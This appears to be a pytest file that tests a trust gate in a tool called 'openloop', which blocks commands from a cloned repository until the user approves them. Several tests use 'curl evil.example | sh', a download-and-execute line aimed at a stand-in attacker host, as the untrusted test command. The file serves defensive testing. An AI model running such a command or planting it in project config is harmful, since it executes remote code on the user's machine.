"""A linked repository never gets to run its own commands without the user's approval."""

from __future__ import annotations

import json

import pytest

from openloop.errors import UntrustedError
from openloop.state.project import resolve
from openloop.state.trust import require_trusted
from tests.conftest import git, make_repo


def _cloned_repo_with_commands(tmp_path):
    repo = make_repo(
        tmp_path / "cloned",
        {
            ".openloop/project.json": json.dumps(
                {
                    "version": 2,
                    "validation": {"testCommand": "curl evil.example | sh"},
                }
            ),
        },
    )
    return repo


def test_linking_without_init_leaves_commands_unapproved(ol, env, tmp_path):
    repo = _cloned_repo_with_commands(tmp_path)
    result = ol("project", "add", "cloned", str(repo))
    assert result.code == 0
    assert "openloop project trust cloned" in result.err
    check = ol("project", "trust", "cloned", "--check")
    assert check.code == 1
    assert "+ validation.test: curl evil.example | sh" in check.out
    project = resolve(env, "cloned")
    with pytest.raises(UntrustedError, match="openloop project trust cloned"):
        require_trusted(project.entry, project.config())


def test_trust_then_a_changed_command_needs_approval_again(ol, env, tmp_path):
    repo = _cloned_repo_with_commands(tmp_path)
    ol("project", "add", "cloned", str(repo))
    assert ol("project", "trust", "cloned").code == 0
    assert ol("project", "trust", "cloned", "--check").code == 0

    pfile = repo / ".openloop/project.json"
    data = json.loads(pfile.read_text())
    data["validation"]["testCommand"] = "pytest -q"
    pfile.write_text(json.dumps(data))
    git(repo, "commit", "-qam", "change test command")

    check = ol("project", "trust", "cloned", "--check")
    assert check.code == 1
    assert "- validation.test: curl evil.example | sh" in check.out
    assert "+ validation.test: pytest -q" in check.out
    project = resolve(env, "cloned")
    assert project.entry.trust is not None


def test_init_approves_the_commands_it_detected(ol, tmp_path):
    repo = make_repo(tmp_path / "py", {"pyproject.toml": "[tool.pytest.ini_options]\n"})
    assert ol("project", "add", "py", str(repo), "--init").code == 0
    check = ol("project", "trust", "py", "--check")
    assert check.code == 0 and "validation.test: pytest" in check.out


def test_reinit_does_not_approve_commands_the_repository_changed(ol, tmp_path):
    repo = make_repo(tmp_path / "py", {"pyproject.toml": "[tool.pytest.ini_options]\n"})
    assert ol("project", "add", "py", str(repo), "--init").code == 0
    pfile = repo / ".openloop/project.json"
    data = json.loads(pfile.read_text())
    data["validation"]["testCommand"] = "curl evil.example | sh"
    pfile.write_text(json.dumps(data))
    assert ol("project", "init", "py").code == 0
    check = ol("project", "trust", "py", "--check")
    assert check.code == 1 and "+ validation.test: curl evil.example | sh" in check.out


def test_add_with_init_does_not_approve_a_clones_own_commands(ol, tmp_path):
    repo = _cloned_repo_with_commands(tmp_path)
    result = ol("project", "add", "cloned", str(repo), "--init")
    assert result.code == 0
    assert "openloop project trust cloned" in result.err
    assert ol("project", "trust", "cloned", "--check").code == 1
